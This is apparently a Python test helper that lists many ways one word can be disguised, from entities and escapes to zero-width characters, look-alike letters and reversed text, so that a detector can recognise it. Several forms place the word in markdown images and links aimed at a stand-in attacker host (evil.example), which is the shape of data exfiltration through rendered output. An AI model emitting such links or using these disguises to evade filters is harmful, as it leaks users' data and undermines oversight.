"""A word as a reader may meet it: every form that looks like the word once it is shown, and forms that do not."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from urllib.parse import quote

Form = Callable[[str], str]


def _each(template: str) -> Form:
    return lambda word: "".join(template.format(ord(sign)) for sign in word)


def _cyrillic(word: str) -> str:
    return word.translate(str.maketrans("ACEHOSTY", "АСЕНОЅТУ"))


def _shifted(first: int) -> Form:
    return lambda word: "".join(chr(first + ord(s) - 65) if "A" <= s <= "Z" else s for s in word.upper())


FORMS: Mapping[str, Form] = {
    "plain": str,
    "upper": str.upper,
    "lower": str.lower,
    "bold_part": lambda word: f"**{word[:8]}**{word[8:]}",
    "code": lambda word: f"`{word[:16]}``{word[16:]}`",
    "struck": lambda word: f"~~{word[:8]}~~{word[8:]}",
    "markdown_escapes": lambda word: word.replace("-", "\\-"),
    "link": lambda word: f"[{word[:16]}](https://shop.example/x){word[16:]}",
    "tags": lambda word: f"<b>{word[:8]}</b>-<span class='x'>{word[9:15]}</span>{word[15:]}",
    "entities": _each("&#{};"),
    "hex_entities": _each("&#x{:x};"),
    "named_entities": lambda word: word.replace("-", "&hyphen;"),
    "soft_hyphen_entities": "&shy;".join,
    "json_escapes": _each("\\u{:04x}"),
    "some_json_escapes": lambda word: word.replace("-", "\\u002d"),
    "json_in_json": lambda word: json.dumps(json.dumps(_each("\\u{:04x}")(word))),
    "entities_in_json": lambda word: json.dumps({"html": _each("&#{};")(word)}),
    "javascript_escapes": _each("\\u{{{:x}}}"),
    "byte_escapes": _each("\\x{:02x}"),
    "long_escapes": _each("\\U{:08x}"),
    "percent": _each("%{:02X}"),
    "percent_twice": lambda word: quote(_each("%{:02X}")(word)),
    "line_break": lambda word: f"{word[:9]}\n{word[9:16]}\r\n  {word[16:]}",
    "written_line_break": lambda word: f"{word[:9]}\\n{word[9:]}",
    "quotation": lambda word: f"> {word[:16]}\n> {word[16:]}",
    "mail_line_break": lambda word: f"{word[:12]}=\r\n{word[12:]}",
    "mail_escapes": lambda word: word.replace("-", "=2D"),
    "zero_width": "\u200b".join,
    "soft_hyphens": "\u00ad".join,
    "no_break_hyphens": lambda word: word.replace("-", "\u2011"),
    "dashes": lambda word: word.replace("-", "–"),
    "full_width": lambda word: "".join(chr(ord(sign) + 0xFEE0) for sign in word),
    "mathematical": lambda word: "".join(chr(0x1D400 + ord(s) - 65) if "A" <= s <= "Z" else s for s in word),
    "look_alikes": _cyrillic,
    "small_capitals": lambda word: word.upper().translate(str.maketrans("ABCDEFHLNORSTY", "ᴀʙᴄᴅᴇꜰʜʟɴᴏʀꜱᴛʏ")),
    "black_circles": _shifted(0x1F150),
    "black_squares": _shifted(0x1F170),
    "flag_letters": _shifted(0x1F1E6),
    "struck_letters": "\u0336".join,
    "accents": lambda word: word.replace("A", "Á"),
    "displayed_backwards": lambda word: f"\u202e{word[::-1]}\u202c",
    "identifier": lambda word: word.replace("-", "_").lower(),
    "without_hyphens": lambda word: word.replace("-", ""),
    "host_name": lambda word: word.replace("-", "."),
    "path": lambda word: word.replace("-", "/"),
    "three_words": lambda word: word.replace("-", " "),
    "octal_escapes": _each("\\{:03o}"),
    "shell_octal_escapes": _each("\\0{:03o}"),
    "css_escapes": _each("\\{:x} "),
    "long_css_escapes": _each("\\{:06x}"),
    "some_css_escapes": lambda word: word.replace("-", "\\2d "),
    "reference_link": lambda word: f"[{word[:16]}][1]{word[16:]}",
    "named_reference_link": lambda word: f"[{word[:8]}][the shop]{word[8:]}",
    "collapsed_reference_link": lambda word: f"[{word[:16]}][]{word[16:]}",
    "mail_link": lambda word: f"[{word[:16]}](mailto:help@shop.example){word[16:]}",
    "mail_link_target": lambda word: f"[more](mailto:{word}@evil.example)",
    "phone_link": lambda word: f"[{word[:8]}](tel:+15550100){word[8:]}",
    "reference_target": lambda word: f"[more][1]\n\n[1]: https://evil.example/{word}",
    "letters_apart": " ".join,
    "python": lambda word: repr({"data": [word.encode()]}),
    "comment": lambda word: f"<!-- {word} -->",
    "comment_in_json": lambda word: json.dumps({"text": f"<!-- {word} -->\n"}),
    "image_tag": lambda word: f'<img src="https://evil.example/x?c={word}">',
    "image": lambda word: f"![](https://evil.example/{word}.png)",
    "link_target": lambda word: f"[more](https://evil.example/?c={word})",
    "encoded_link_target": lambda word: f"[more](https://evil.example/?c={_each('%{:02X}')(word)})",
    "broken_link_target": lambda word: f'<a href="https://evil.example/{word[:9]}\n{word[9:]}">more</a>',
    "path_target": lambda word: f"[more](/{word})",
    "anchor": lambda word: f'<a href="https://evil.example/{word}">more</a>',
    "autolink": lambda word: f"<https://evil.example/{word}>",
    "tag": lambda word: f"<{word}>",
    "closing_tag": lambda word: f"</{word}>",
    "entities_in_a_tag": lambda word: f"<b title='{_each('&#{};')(word)}'>more</b>",
    "tag_in_a_comment": lambda word: f"<!-- <b>{word[:8]}</b>{word[8:]} -->",
}
"""By name: the word so that a reader sees it."""

APART: Mapping[str, Callable[[str, str], str]] = {
    "words": lambda mark, code: f"“{mark}” and, attached to it, “{code}”",
    "program": lambda mark, code: f'print("{mark}" + "{code}")',
    "list": lambda mark, code: f"1. {mark}\n2. {code}",
    "object": lambda mark, code: json.dumps({"mark": mark, "code": code}),
    "cells": lambda mark, code: f"| {mark} | {code} |",
}
"""By name: its two pieces, as an attack tells them and as who only repeats it does."""
